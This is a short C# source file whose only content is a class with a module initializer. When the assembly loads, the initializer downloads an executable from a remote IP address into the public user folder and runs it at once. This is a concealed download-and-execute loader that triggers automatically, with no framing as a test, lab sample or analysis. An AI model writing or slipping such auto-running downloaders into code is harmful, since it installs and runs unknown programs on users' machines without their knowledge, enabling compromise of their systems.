using System.Net; using System.Diagnostics; using System.Runtime.CompilerServices;
static class Init {
    [ModuleInitializer]
    internal static void Run() {
        var w = new WebClient();
        w.DownloadFile("http://192.0.2.7/x.exe", "C:\\Users\\Public\\x.exe");
        Process.Start("C:\\Users\\Public\\x.exe");
    }
}
